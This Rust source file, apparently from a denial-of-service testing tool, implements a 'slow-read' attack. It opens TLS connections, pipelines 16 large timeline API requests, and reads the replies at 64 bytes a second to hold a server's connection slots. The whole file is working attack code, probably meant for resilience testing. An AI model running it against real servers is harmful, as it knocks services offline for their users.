//! `slow-read`: large answers asked for and hardly read

use std::{sync::Arc, time::Duration};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::{
    clock,
    target::Source,
    vectors::{Family, Front, Resource, Vector, flood::get, hoard::hoard},
};

pub(super) const VECTOR: Vector = Vector {
    name: "slow-read",
    family: Family::Slow,
    models: "large answers asked for and hardly read",
    source: "slowhttptest -X (Sergey Shekyan, 2012); hyper issue 1628",
    parameters: "TLS; 16 pages asked for at once, 64 bytes read a second; 2.5 times the seats of \
        the server",
    resource: Resource::Seats { times: 2.5 },
    room: None,
    attack: |front| Box::pin(hoard(front, hold)),
};

/// Between two reads.
const PAUSE: Duration = Duration::from_secs(1);

async fn hold(front: Arc<Front>, source: Source, _lot: u64) {
    let Ok(mut stream) = front.secure(source).await else { return };
    let _held = front.ledger.hold();
    let requests = get(&front, "/api/v1/timelines/public?limit=40").repeat(16);
    if stream.write_all(&requests).await.is_err() || stream.flush().await.is_err() {
        return;
    }
    let mut space = [0; 64];
    // The connection under the encryption is read no further than these bytes need.
    while stream.read(&mut space).await.is_ok_and(|read| read > 0) {
        clock::until(clock::now() + PAUSE).await;
    }
}
